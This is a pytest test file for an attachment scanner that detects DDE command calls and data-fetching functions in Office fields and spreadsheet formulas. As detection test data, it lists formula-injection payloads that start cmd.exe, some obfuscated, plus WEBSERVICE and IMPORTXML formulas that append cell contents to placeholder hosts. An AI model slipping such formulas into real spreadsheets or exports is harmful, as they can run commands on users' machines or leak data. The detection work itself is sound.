"""Calls to other programs, in fields and in formulas."""

import time

import pytest

from gatepost.message.attachments.desk import Insides
from gatepost.message.attachments.office.dde import find_calls, note_dde, note_formulas


@pytest.mark.parametrize(
    ("call", "code"),
    [
        (r'c:\\windows\\system32\\cmd.exe "/k calc.exe"', "office.dde_command"),
        ("cmd /c calc", "office.dde_command"),
        (r"MSEXCEL \..\..\Windows\System32\cmd.exe", "office.dde_command"),
        ("unheard-of topic", "office.dde"),
        ("Excel [Book1.xls]Sheet1 R1C1", "office.dde_honest"),
        ("BLP M", "office.dde_honest"),
    ],
)
def test_a_call_is_told_by_what_it_starts(call: str, code: str) -> None:
    insides = Insides()
    note_dde(call, insides)
    assert [trait.code for trait in insides.traits] == [code]


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "=IF(1,cmd|'/C calc'!A0)",
        "=\"a\"&cmd|'/C calc'!A0",
        "@SUM(cmd|'/C calc'!A0)",
        "a,b\n\"=cmd|'/C calc'!A0\",c",
        "x;=cmd| '/C calc'!A0",
        "\t=cmd|'/C calc'!A0",
        "＝cmd|'/C calc'!A0",
    ],
)
def test_calls_in_cells_are_found(formula: str) -> None:
    assert [" ".join(call.split()) for call in find_calls(formula)] == ["cmd /C calc"]


@pytest.mark.parametrize("text", ["a|b!", "name|value!x", "=SUM(A1:A2)", "-12|34", "see a|'b'!c", "2+2=4 |x|y! z"])
def test_text_that_calls_nothing_is_left_alone(text: str) -> None:
    assert list(find_calls(text)) == []


def test_functions_that_fetch_are_told_and_links_handed_on() -> None:
    insides = Insides()
    note_formulas('=HYPERLINK("https://a.example","x")\n=WEBSERVICE("https://b.example/?"&A1)', insides)
    assert [link.url for link in insides.links] == ["https://a.example", "https://b.example/?"]
    assert [trait.code for trait in insides.traits] == ["office.loads"]


def test_the_function_of_libreoffice_is_a_call() -> None:
    insides = Insides()
    note_formulas('=DDE("cmd";"/C calc";"__DdeLink")', insides)
    assert [(trait.code, trait.text) for trait in insides.traits] == [("office.dde_command", "cmd /C calc")]


def test_pictures_and_joined_addresses_of_formulas_are_told() -> None:
    insides = Insides()
    note_formulas('=IMAGE("https://a.example/x.png")\n=IMPORTXML(CONCAT("https://b.example/?",A1),"//a")', insides)
    assert [trait.code for trait in insides.traits] == ["office.loads_picture", "office.loads"]


@pytest.mark.parametrize(
    "text",
    ["=a|" * 300_000, "=" * 900_000, "a" * 900_000 + "|", "|'" * 400_000, "=HYPERLINK(" * 90_000, '=DDE("' * 90_000],
)
def test_no_table_takes_long(text: str) -> None:
    start = time.process_time()
    note_formulas(text, Insides())
    assert time.process_time() - start < 2
